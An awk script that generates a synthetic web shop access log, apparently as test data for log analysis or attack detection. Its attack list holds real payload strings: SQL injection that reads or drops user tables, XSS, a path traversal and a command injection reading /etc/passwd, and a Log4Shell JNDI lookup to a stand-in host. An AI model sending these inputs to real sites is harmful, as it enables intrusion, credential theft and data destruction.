# An access log of n lines of about 168 bytes: browsers, scripts and robots; searches for 'union jacket' and 'select size', too; 0.1 % attacks of eight kinds.
# addresses=N takes the addresses from N different ones, one after another.
BEGIN {
    srand(7)
    methods = split("GET GET GET GET POST GET PUT GET", method, " ")
    paths = split("/ /api/orders/ /api/users/ /static/js/app. /img/products/ /search?q= /cart/items/ /login /api/v2/invoices?page= /blog/how-to-choose-", path, " ")
    agents = split("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36|Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1|Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0|kube-probe/1.29|curl/8.5.0|Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)|okhttp/4.12.0", agent, "|")
    words = split("shoes red summer dress laptop stand usb cable coffee grinder union jacket garden chair select size bicycle lamp", word, " ")
    attacks = split("/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--|/index.php?id=1%27+or+%271%27=%271|/search?q=<script>alert(1)</script>|/download?file=../../../../etc/passwd|/?x=${jndi:ldap://198.51.100.7/a}|/cgi-bin/ping?host=127.0.0.1;cat%20/etc/passwd|/products?id=1;%20DROP%20TABLE%20users;--|/q=%3Cimg%20src=x%20onerror=alert(1)%3E", attack, "|")
    for (i = 0; i < n; i++) {
        if (i % 1000 == 500) target = attack[1 + int(rand() * attacks)]
        else {
            k = 1 + int(rand() * paths)
            target = path[k]
            if (k == 6) target = target word[1 + int(rand() * words)] "+" word[1 + int(rand() * words)]
            else if (k != 1 && k != 8) target = target int(rand() * 900000)
        }
        if (addresses) { a = i % addresses; address = (11 + int(a / 16777216)) "." (int(a / 65536) % 256) "." (int(a / 256) % 256) "." (a % 256) }
        else address = (11 + int(rand() * 180)) "." int(rand() * 256) "." int(rand() * 256) "." int(rand() * 256)
        s = int(i / 200)
        printf "%s - - [21/Nov/2026:%02d:%02d:%02d +0000] \"%s %s HTTP/1.1\" %d %d \"%s\" \"%s\"\n", address, int(s / 3600) % 24, int(s / 60) % 60, s % 60, \
            method[1 + int(rand() * methods)], target, (rand() < 0.95 ? 200 : 404), rand() * 40000, (rand() < .5 ? "-" : "https://shop.example/"), agent[1 + int(rand() * agents)]
    }
}
